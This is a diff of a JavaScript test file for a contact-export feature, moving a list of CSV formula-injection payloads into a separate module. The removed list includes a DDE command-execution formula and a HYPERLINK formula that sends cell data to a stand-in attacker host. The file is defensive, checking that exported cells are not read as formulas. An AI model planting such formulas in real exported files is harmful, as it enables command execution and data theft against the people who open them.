@@ -1,6 +1,4 @@
 // Out: what leaves comes back to the letter, and no spreadsheet takes a cell of it for a formula.
-import {existsSync} from 'node:fs';
-import {join} from 'node:path';
 import fc from 'fast-check';
 import Papa from 'papaparse';
 import {expect, test} from 'vitest';
@@ -10,39 +8,8 @@ import {csvHead, csvOf} from '@/lib/exchange/out/csv';
 import type {Person} from '@/lib/exchange/out/person';
 import {urlOfHandle} from '@/lib/profile-url';
 import {count, seed} from '../tools/counts';
+import {everywhere, formulas, nobody, shared} from './formulas';
 import {choiceOf, readAll} from './reading';
-
-/** The payloads of the OWASP list of CSV injection and what goes round them, modelled for this test. */
-const formulas = [
-	'=1+1',
-	'+1+1',
-	'-1+1',
-	'@SUM(1)',
-	'\t=1+1',
-	'\r=1+1',
-	'\n=1+1',
-	"=cmd|' /C calc'!A0",
-	'=HYPERLINK("https://evil.example/?"&A1,"x")',
-	' =1+1',
-	'"=1+1"',
-	"'=1+1",
-	"''=1+1",
-	';=1+1',
-	'a;=1+1',
-	'a\n=1+1',
-	'a;\t"=1+1',
-	'a|-1',
-	'＝1+1',
-	'＋1',
-	'－1',
-	'＠A1',
-	'=1+1,"","=2+2"',
-	'\t',
-	'\r\n',
-	';'.repeat(50),
-	'"'.repeat(51),
-];
-const shared = join(import.meta.dirname, '../../../shared/data/payloads.mjs');
 
 const text = fc
 	.oneof(
@@ -132,29 +99,6 @@ test('people come back from vCard to the letter, but for the kind of their line 
 	);
 });
 
-const nobody: Person = {
-	kind: 'person',
-	name: 'Ada Holm',
-	title: null,
-	company: null,
-	companyDomain: null,
-	location: null,
-	emails: [],
-	phones: [],
-	websites: [],
-	profileUrls: [],
-	tags: [],
-	notes: [],
-};
-const everywhere = (payload: string): Person => ({
-	...nobody,
-	name: payload,
-	title: payload,
-	location: payload,
-	tags: [payload],
-	notes: [`Hello ${payload}`, payload],
-});
-
 const risky = /^[\s"]*[=+\-@＝＋－＠]|^[\t\r\n]/u;
 
 /** Cells as a spreadsheet may see them: parted as we meant it, by another delimiter, and without regard to quotes. */
@@ -171,12 +115,7 @@ const inertIn = async (payload: string) => {
 
 test.each(formulas)('%j is no formula in any cell, and comes back', inertIn);
 
-test.runIf(existsSync(shared))('nor is any payload of the shared corpus', async () => {
-	const {strings} = (await import(/* @vite-ignore */ shared)) as {strings: {csvFormula: string[]}};
-	expect(strings.csvFormula.length).toBeGreaterThanOrEqual(20);
-	for (const payload of strings.csvFormula) await inertIn(payload);
+test.runIf(shared.length > 0)('nor is any payload of the shared corpus', async () => {
+	expect(shared.length).toBeGreaterThanOrEqual(20);
+	for (const payload of shared) await inertIn(payload);
 });
-if (!existsSync(shared))
-	console.warn(
-		'SKIPPED: the shared payloads are not beside this project (../shared): those of this file are tried alone.',
-	);
